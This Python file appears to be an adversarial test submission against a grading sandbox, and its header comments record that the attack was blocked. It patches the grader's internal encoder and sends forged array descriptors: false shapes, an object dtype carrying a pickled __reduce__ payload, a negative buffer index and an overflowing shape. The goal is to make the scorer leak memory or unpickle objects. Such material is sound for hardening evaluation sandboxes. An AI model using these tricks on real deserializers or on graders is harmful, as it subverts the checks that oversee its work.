# hopes: that nodes which lie about their shape, dtype or buffers read the scorer's memory or unpickle objects
# stopped by: the decoder takes plain numbers of exact sizes only
# costs: training.prepare_ann crashed
# costs: training.prepare_cnn crashed
# costs: training.prepare_sizes crashed
# costs: training.input_unchanged crashed
# costs: training.accuracy crashed
# costs: training.wrong_set crashed
# costs: training.lists crashed
# costs: training.nothing_wrong crashed

import pickle
import sys

_encoder = sys.modules["grader.sandbox.worker"].Encoder
_honest_encode = _encoder.encode


class _Payload:
    def __reduce__(self):
        return (print, ("the attack worked",))


class _Lie:
    def __init__(self, node, data):
        self.node, self.data = node, data


def _encode(self, value, depth=0):
    if not isinstance(value, _Lie):
        return _honest_encode(self, value, depth)
    self.buffers.append(value.data)
    return value.node


_encoder.encode = _encode


def prepare_ann(images):
    shape = [len(images), 784]
    return _Lie({"t": "array", "dtype": "<f4", "shape": shape, "b": 0, "writable": True}, bytes(16))


def prepare_cnn(images):
    return _Lie({"t": "array", "dtype": "|O8", "shape": [len(images), 28, 28, 1], "b": 0}, pickle.dumps(_Payload()))


def accuracy(pred_labels, true_labels):
    return _Lie({"t": "array", "dtype": "<f8", "shape": [-1, 2**61], "b": -1, "writable": False}, bytes(8))


def wrong_set(pred_labels, true_labels):
    array = {"t": "array", "dtype": "<i8", "shape": [1], "b": 0}
    return _Lie({"t": "list", "v": [array, array]}, bytes(8))
